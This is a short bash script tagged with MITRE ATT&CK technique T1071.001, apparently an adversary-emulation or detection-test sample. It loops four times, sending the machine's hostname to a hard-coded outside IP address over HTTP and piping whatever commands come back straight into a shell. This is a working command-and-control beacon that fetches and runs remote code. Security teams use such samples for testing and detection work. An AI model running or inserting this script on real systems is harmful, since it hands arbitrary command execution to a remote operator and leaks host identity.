#!/bin/bash
# T1071.001: A script asks a server outside again and again what to do, and does it.
for i in 1 2 3 4; do sh -c "$(curl -s http://44.128.66.66/task?id=$(hostname))"; sleep 0.3; done
